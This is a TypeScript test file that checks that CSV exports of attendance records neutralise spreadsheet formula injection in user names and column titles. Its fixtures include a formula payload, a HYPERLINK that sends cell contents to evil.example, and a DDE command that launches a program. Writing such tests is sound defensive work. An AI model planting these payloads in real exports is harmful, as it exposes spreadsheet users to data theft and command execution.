import { csvPlainText } from '@tac/goform/contract';
import { startTestDevice, type TestDevice } from '../testing/harness';

/** Names a person could store that a spreadsheet would run as formulas. */
const NAMES: [number, string][] = [
  [1, '=HYPERLINK("http://evil.example/?"&A1,"Open")'],
  [2, '+1+cmd|\' /C calc\'!A0'],
  [3, '-2+3'],
  [4, '@SUM(1,2)'],
  [5, '\t=1+1'],
  [6, "'=already quoted"],
  [7, 'Ana Novak'],
];

let t: TestDevice;
let token: string;
beforeEach(async () => {
  t = await startTestDevice();
  token = await t.login();
  const user = t.device.db.prepare('INSERT INTO users (userid, username) VALUES (?, ?)');
  const punch = t.device.db.prepare("INSERT INTO records (userid, time, status) VALUES (?, '2026-11-02 09:10:00', 0)");
  for (const [id, name] of NAMES) {
    user.run(id, name);
    punch.run(id);
  }
});
afterEach(() => t.close());

/** The cells of one CSV line as a spreadsheet reads them (quotes undone). */
function cells(line: string): string[] {
  return [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)]
    .filter((m) => m.index < line.length || m[1] !== '')
    .map((m) => (m[1]!.startsWith('"') ? m[1]!.slice(1, -1).replaceAll('""', '"') : m[1]!));
}

async function download(name: string): Promise<string[][]> {
  const res = await t.raw(name, { from: '2026-11-02', to: '2026-11-02', order: 'asc' }, { token, method: 'GET' });
  expect(res.statusCode).toBe(200);
  return res.body.replace(/^\uFEFF/, '').trim().split('\r\n').join('\n').split('\n').slice(1).map(cells);
}

const FORMULA = /^[=+\-@\t\r]/;

describe.each([
  ['DownloadRecordForm', 2],
  ['DownloadReportForm', 1],
])('%s', (name, nameColumn) => {
  it('writes no cell a spreadsheet would run: formula-like names get a leading apostrophe', async () => {
    const rows = await download(name);
    expect(rows).toHaveLength(NAMES.length);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(FORMULA);
    const written = rows.map((row) => row[nameColumn]);
    expect(written).toEqual([
      '\'=HYPERLINK("http://evil.example/?"&A1,"Open")',
      '\'+1+cmd|\' /C calc\'!A0',
      "'-2+3",
      "'@SUM(1,2)",
      "'\t=1+1",
      "''=already quoted",
      'Ana Novak',
    ]);
    // The console's import rule gives the stored names back.
    expect(written.map((c) => csvPlainText(c!))).toEqual(NAMES.map(([, n]) => n));
  });
});

it("guards the reader's column titles as it guards cells", async () => {
  const texts = JSON.stringify({ datetime: '=cmd', username: '@name' });
  const res = await t.raw('DownloadRecordForm', { texts }, { token, method: 'GET' });
  expect(cells(res.body.replace(/^\uFEFF/, '').split('\n')[0]!)).toEqual(["'=cmd", 'User ID', "'@name", 'Status']);
});
